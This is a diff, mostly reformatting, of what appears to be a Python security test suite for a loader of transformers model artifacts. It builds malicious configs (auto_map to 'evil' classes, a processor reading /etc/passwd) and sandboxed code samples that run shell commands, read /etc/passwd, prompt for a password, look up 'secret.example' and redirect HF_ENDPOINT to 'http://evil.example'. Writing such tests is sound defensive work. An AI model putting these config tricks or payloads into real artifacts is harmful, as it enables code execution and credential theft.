@@ -1,4 +1,7 @@
-"""Attacks that name no class of their own: a config, an argument or agreed code steers what builds the model."""
+"""Attacks that name no class of their own.
+
+A config, an argument or agreed code steers what builds the model.
+"""
 
 from __future__ import annotations
 
@@ -14,11 +17,21 @@ DEPTH = (
     "depth_anything.modeling_depth_anything:DepthAnythingForDepthEstimation",
     "depth_anything.configuration_depth_anything:DepthAnythingConfig",
 )
-CTC = ("wav2vec2.modeling_wav2vec2:Wav2Vec2ForCTC", "wav2vec2.configuration_wav2vec2:Wav2Vec2Config")
-SMALL = {"hidden_size": 16, "num_hidden_layers": 1, "num_attention_heads": 2, "num_conv_pos_embedding_groups": 2}
+CTC = (
+    "wav2vec2.modeling_wav2vec2:Wav2Vec2ForCTC",
+    "wav2vec2.configuration_wav2vec2:Wav2Vec2Config",
+)
+SMALL = {
+    "hidden_size": 16,
+    "num_hidden_layers": 1,
+    "num_attention_heads": 2,
+    "num_conv_pos_embedding_groups": 2,
+}
 
 
-def become(target: Target, names: tuple[str, str], config: Any, arguments: Mapping[str, Any] | None = None) -> None:
+def become(
+    target: Target, names: tuple[str, str], config: Any, arguments: Mapping[str, Any] | None = None
+) -> None:
     """Make it an artifact of another class of transformers."""
     cls, config_class = (f"{MODELS}.{name}" for name in names)
     rewrite(target.config, json.dumps(config))
@@ -29,11 +42,16 @@ def become(target: Target, names: tuple[str, str], config: Any, arguments: Mappi
     )
 
 
-def steered(name: str, doc: str, config: Any, names: tuple[str, str] = DEPTH, verdict: str = "TrustError") -> None:
+def steered(
+    name: str, doc: str, config: Any, names: tuple[str, str] = DEPTH, verdict: str = "TrustError"
+) -> None:
     """The config of an artifact of some class of transformers."""
 
     def damage(target: Target) -> None:
-        rewrite(target.code / "evil.py", target.payload + "import torch\nclass B(torch.nn.Module): pass\n")
+        rewrite(
+            target.code / "evil.py",
+            target.payload + "import torch\nclass B(torch.nn.Module): pass\n",
+        )
         become(target, names, json.loads(json.dumps(config).replace("CODE", str(target.code))))
 
     damage.__name__, damage.__doc__ = name, doc
@@ -41,8 +59,16 @@ def steered(name: str, doc: str, config: Any, names: tuple[str, str] = DEPTH, ve
 
 
 NESTED = {"model_type": "bert", "auto_map": {"AutoBackbone": "evil.B"}, "_name_or_path": "CODE"}
-steered("steer_backbone", "a backbone is that of a repository", {"backbone": "evil/repo", "backbone_config": None})
-steered("steer_nested_code", "auto_map in the config of a part: asks on the terminal", {"backbone_config": NESTED})
+steered(
+    "steer_backbone",
+    "a backbone is that of a repository",
+    {"backbone": "evil/repo", "backbone_config": None},
+)
+steered(
+    "steer_nested_code",
+    "auto_map in the config of a part: asks on the terminal",
+    {"backbone_config": NESTED},
+)
 steered("steer_nested_code_in_a_list", "the same, in a list", {"parts": [{"of": [NESTED]}]})
 steered("steer_folder", "a config says that its weights are in a folder", {"_name_or_path": "CODE"})
 steered("steer_repository_of_a_part", "the config of a part names a repository",
@@ -98,7 +124,10 @@ def tokenizer_names_a_file(target):
 @attack("IntegrityError", None, then=lambda model: model.tokenizer)
 def tokenizer_has_a_config_of_its_own(target):
     """a config.json beside the tokenizer, which AutoTokenizer would ask for a class"""
-    rewrite(target.tokenizer / "config.json", json.dumps({"auto_map": {"AutoTokenizer": ["evil.T", "evil.T"]}}))
+    rewrite(
+        target.tokenizer / "config.json",
+        json.dumps({"auto_map": {"AutoTokenizer": ["evil.T", "evil.T"]}}),
+    )
     target.reseal()
 
 
@@ -106,7 +135,11 @@ def tokenizer_has_a_config_of_its_own(target):
 def processor_names_a_file(target):
     """the processor reads a list of classes from a repository, or a file of its choice"""
     target.processor.mkdir()
-    content = {"image_processor_type": "OneFormerImageProcessor", "class_info_file": "passwd", "repo_path": "/etc"}
+    content = {
+        "image_processor_type": "OneFormerImageProcessor",
+        "class_info_file": "passwd",
+        "repo_path": "/etc",
+    }
     rewrite(target.processor / "preprocessor_config.json", json.dumps(content))
     target.reseal()
 
@@ -129,18 +162,33 @@ def agreed(name: str, doc: str, source: str, *, swallowed: bool = False) -> None
     attack("TrustError", base="coded", options={"trust": {"code"}})(damage)
 
 
-THREAD = "import threading; t = threading.Thread(target=open, args=(CANARY, 'w')); t.start(); t.join()"
+THREAD = (
+    "import threading; t = threading.Thread(target=open, args=(CANARY, 'w')); t.start(); t.join()"
+)
 agreed("agreed_writes", "code that was agreed to writes a file", "open(CANARY, 'w')")
-agreed("agreed_swallows", "the same, and nothing is said of it", "open(CANARY, 'w')", swallowed=True)
+agreed(
+    "agreed_swallows", "the same, and nothing is said of it", "open(CANARY, 'w')", swallowed=True
+)
 agreed("agreed_process", "code that was agreed to starts a program",
        "import subprocess; subprocess.run(['touch', CANARY])")  # fmt: skip
 agreed("agreed_shell", "the same in a shell, and nothing is said of it",
        "import os; os.system('touch ' + CANARY)", swallowed=True)  # fmt: skip
 agreed("agreed_socket", "code that was agreed to opens a connection",
-       "import socket; exec(\"with socket.socket(socket.AF_UNIX) as s: s.connect('x')\")", swallowed=True)  # fmt: skip
+       "import socket; exec(\"with socket.socket(socket.AF_UNIX) as s: "
+       "s.connect('x')\")", swallowed=True)  # fmt: skip
 agreed("agreed_lookup", "code that was agreed to tells a name server something",
        "import socket; socket.getaddrinfo('secret.example', 80)", swallowed=True)  # fmt: skip
-agreed("agreed_terminal", "code that was agreed to asks on the terminal", "input('password: ')", swallowed=True)
-agreed("agreed_reads", "code that was agreed to reads a file of the user", "open('/etc/passwd')", swallowed=True)
+agreed(
+    "agreed_terminal",
+    "code that was agreed to asks on the terminal",
+    "input('password: ')",
+    swallowed=True,
+)
+agreed(
+    "agreed_reads",
+    "code that was agreed to reads a file of the user",
+    "open('/etc/passwd')",
+    swallowed=True,
+)
 agreed("agreed_variable", "code that was agreed to sets a variable of the process",
        "import os; os.putenv('HF_ENDPOINT', 'http://evil.example')")  # fmt: skip
